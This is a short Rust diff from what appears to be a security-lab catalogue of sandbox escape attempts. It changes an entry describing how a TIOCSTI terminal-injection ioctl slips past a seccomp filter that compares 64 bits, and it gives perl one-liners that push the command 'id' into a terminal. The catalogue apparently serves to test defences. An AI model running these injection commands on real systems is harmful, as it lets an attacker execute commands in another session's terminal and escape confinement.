@@ -15,8 +15,8 @@ pub const ATTEMPT: Attempt = Attempt {
             some other number for a filter that compares 64 bits, so that it lets it pass. The filter must compare \
             what the kernel uses, the lower half alone.",
     by_hand: &[
-        "[ -e /dev/null ] || touch /dev/null",
-        "setsid -c perl -e 'syscall(16, 2, 0x100005412, $_) for split //, \"id\\n\"'    # x86-64",
+        r#"script -qc "exec perl -e '\$SIG{HUP} = q(IGNORE); ioctl STDIN, 0x5422, 0; exec @ARGV' lab3-pivot rootfs /bin/sh" /dev/null    # on the host: a terminal that is nobody's"#,
+        r#"setsid -c perl -e 'syscall(16, 2, 0x100005412, $_) for split //, "id\n"'    # x86-64; as with tty-inject-own"#,
     ],
     stopped_by: &["lab5-seccomp/tiocsti"],
     after: &["terminal", "tty-inject-own"],
